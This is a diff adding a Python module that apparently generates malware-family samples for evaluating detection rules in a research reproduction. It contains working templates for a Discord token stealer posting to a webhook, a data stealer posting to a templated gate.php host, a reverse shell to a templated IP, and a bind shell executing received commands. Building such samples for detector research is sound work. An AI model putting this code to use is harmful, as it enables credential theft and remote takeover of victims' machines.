@@ -1,0 +1,113 @@
+"""Malware-family behaviours (paper Table XII category 9).
+
+Subcategories: Known Trojan Families, Backdoor Families.
+
+These are composite "signature" behaviours modelled on well-known OSS malware
+families (W4SP-style stealers, reverse-shell backdoors).  They carry
+distinctive marker strings so family-specific rules have something narrow to
+latch onto -- matching the paper's observation that family rules have a very
+small detection range.
+"""
+
+from __future__ import annotations
+
+from repro.corpus.behaviors.base import Behavior
+
+BEHAVIORS: list[Behavior] = [
+    Behavior(
+        key="trojan_stealer_family",
+        subcategory="Known Trojan Families",
+        description="A W4SP-style stealer: grabs tokens, browsers and exfiltrates in one pass.",
+        variants=[
+            (
+                ["import os", "import re", "import requests"],
+                """
+                class WaspOperator:
+                    HOOK = "{webhook}"
+                    TOKEN_RE = re.compile(r"[\\w-]..........................\\.[\\w-]......\\.[\\w-]+")
+
+                    def tokens(self):
+                        roots = [os.path.join(os.path.expanduser("~"), "AppData/Roaming/discord/Local Storage/leveldb")]
+                        found = []
+                        for root in roots:
+                            if not os.path.isdir(root):
+                                continue
+                            for name in os.listdir(root):
+                                if name.endswith((".ldb", ".log")):
+                                    with open(os.path.join(root, name), "r", errors="ignore") as handle:
+                                        found.extend(self.TOKEN_RE.findall(handle.read()))
+                        return found
+
+                    def exfiltrate(self):
+                        requests.post(self.HOOK, json=dict(content="\\n".join(self.tokens())), timeout=10)
+                """,
+                "WaspOperator().exfiltrate()",
+                None,
+            ),
+            (
+                ["import os", "import base64", "import requests"],
+                """
+                class CreamStealer:
+                    GATE = "https://{host}/cream/gate.php"
+
+                    def collect(self):
+                        report = dict()
+                        report["user"] = os.getenv("USERNAME", "")
+                        report["injection"] = base64.b64encode(b"cream-inject-v2").decode()
+                        return report
+
+                    def ship(self):
+                        requests.post(self.GATE, json=self.collect(), timeout=10)
+                """,
+                "CreamStealer().ship()",
+                None,
+            ),
+        ],
+    ),
+    Behavior(
+        key="backdoor_reverse_shell",
+        subcategory="Backdoor Families",
+        description="Classic reverse-shell backdoor bound to an attacker host.",
+        variants=[
+            (
+                ["import socket", "import subprocess", "import os"],
+                """
+                def {func}_revshell():
+                    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+                    s.connect(("{ip}", {port}))
+                    os.dup2(s.fileno(), 0)
+                    os.dup2(s.fileno(), 1)
+                    os.dup2(s.fileno(), 2)
+                    subprocess.call(["/bin/sh", "-i"])
+                """,
+                "{func}_revshell()",
+                None,
+            ),
+            (
+                ["import socket", "import subprocess", "import threading"],
+                """
+                class BindShell:
+                    def __init__(self, port={port}):
+                        self.port = port
+
+                    def serve(self):
+                        listener = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+                        listener.bind(("0.0.0.0", self.port))
+                        listener.listen(1)
+                        conn, _addr = listener.accept()
+                        while True:
+                            command = conn.recv(1024).decode().strip()
+                            if command == "exit":
+                                break
+                            output = subprocess.run(command, shell=True, capture_output=True)
+                            conn.sendall(output.stdout + output.stderr)
+
+                    def start(self):
+                        threading.Thread(target=self.serve, daemon=True).start()
+                """,
+                "BindShell().start()",
+                None,
+            ),
+        ],
+    ),
+]
